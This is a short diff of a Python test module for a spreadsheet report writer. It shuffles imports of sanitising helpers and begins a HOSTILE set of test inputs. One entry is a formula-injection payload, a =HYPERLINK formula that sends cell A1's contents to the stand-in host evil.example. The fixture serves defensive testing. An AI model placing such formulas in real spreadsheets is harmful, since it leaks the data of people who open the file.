@@ -17,8 +17,8 @@ from lxml import etree
 from screening.contract import row_object
 from screening.report import writer
 from screening.report.answer import answer_text
-from screening.report.safe import no_formula, one_line, visible
-from screening.report.xlsx_cells import MAX_TEXT, Names, cell_text, safe_link
+from screening.report.safe import no_formula, one_line, safe_link, visible
+from screening.report.xlsx_cells import MAX_TEXT, Names, cell_text
 
 HOSTILE = {
     "formula": '=HYPERLINK("http://evil.example/?"&A1,"open")',
